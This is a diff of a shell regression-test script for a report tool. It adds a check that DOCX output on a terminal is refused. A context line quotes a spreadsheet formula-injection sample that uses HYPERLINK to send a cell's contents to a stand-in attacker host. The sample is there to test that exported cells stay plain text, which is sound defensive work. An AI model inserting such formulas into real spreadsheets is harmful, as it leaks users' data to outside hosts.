@@ -154,6 +154,12 @@ for text in ['=HYPERLINK("http://evil.example/?"&A1,"moderation report")', "-Tha
 PY
 check "regression: appendix --format xlsx: cells starting with = + - @ are text, never formulas" $?
 
+# On a terminal (a pty from util-linux's script) a Word document is refused, not spilled as bytes.
+if command -v script >/dev/null; then
+  script -qec "'$returns' appendix --db '$db2' --format docx" /dev/null >"$work/tty.out" 2>&1
+  [ $? -eq 2 ] && grep -q "give --out FILE" "$work/tty.out" && ! grep -q "word/document.xml" "$work/tty.out"
+  check "appendix --format docx on a terminal: refused, asking for --out" $?
+fi
 expect_error "appendix: unknown format" 2 "unknown --format 'pdf' (md, html, csv, docx or xlsx)" \
   "$returns" appendix --db "$db2" --format pdf
 
